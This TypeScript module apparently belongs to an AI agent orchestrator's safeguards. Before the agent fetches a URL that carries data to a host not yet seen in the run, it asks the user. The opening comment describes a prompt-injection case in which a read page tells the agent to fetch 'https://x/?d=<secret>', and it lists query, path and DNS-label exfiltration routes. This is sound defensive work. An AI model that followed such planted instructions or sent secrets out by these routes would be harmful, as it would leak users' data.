/**
 * A12: a page the agent read may tell it to "fetch https://x/?d=<secret>". Data can leave in the
 * query, in the path, or in the host name itself (DNS exfiltration), so the orchestrator asks
 * before a fetch that carries data to a host not seen in this run.
 */
import type { PolicyDecision } from '../types';
import { normalizeHost } from './url-check';

const LONG_QUERY = 64;
const LONG_VALUE = 32;
const LONG_SEGMENT = 48;
const LONG_LABEL = 30;

function hostOf(url: string | URL): string | undefined {
  try {
    return normalizeHost(new URL(typeof url === 'string' ? url : url.href).hostname);
  } catch {
    return undefined;
  }
}

/** True when the URL's host (case and trailing dot folded; ports ignored) is not among knownHosts. */
export function isNewHost(url: string | URL, knownHosts: Iterable<string>): boolean {
  const host = hostOf(url);
  if (host === undefined) return true;
  for (const known of knownHosts) {
    const k = known.includes('://') ? hostOf(known) : normalizeHost(known.replace(/:\d+$/, ''));
    if (k === host) return false;
  }
  return true;
}

/** Why the URL looks like it carries data (undefined when it does not). */
export function dataCarried(url: string | URL): string | undefined {
  let u: URL;
  try {
    u = new URL(typeof url === 'string' ? url : url.href);
  } catch {
    return 'the URL is invalid';
  }
  const query = u.search.replace(/^\?/, '');
  if (query.length > LONG_QUERY) return `a ${query.length}-character query string`;
  for (const [, value] of u.searchParams) if (value.length > LONG_VALUE) return `a ${value.length}-character query value`;
  for (const segment of u.pathname.split('/')) {
    if (segment.length > LONG_SEGMENT) return `a ${segment.length}-character path segment`;
  }
  for (const label of normalizeHost(u.hostname).split('.')) {
    if (label.length > LONG_LABEL) return `a ${label.length}-character host name label`;
  }
  if (u.username || u.password) return 'credentials in the URL';
  return undefined;
}

/** Ask before sending data to a host first seen now; allow otherwise (the fetch policy still applies). */
export function checkOutboundData(url: string | URL, knownHosts: Iterable<string>): PolicyDecision {
  const carried = dataCarried(url);
  if (carried && isNewHost(url, knownHosts)) {
    return {
      verdict: 'ask',
      rule: 'ask:data-to-new-host',
      reason: `The URL carries ${carried} to ${hostOf(url) ?? 'an unknown host'}, a host the user has not approved sending data to in this run.`,
    };
  }
  return { verdict: 'allow', rule: 'allow:no-data-or-known-host', reason: 'No data to a new host.' };
}
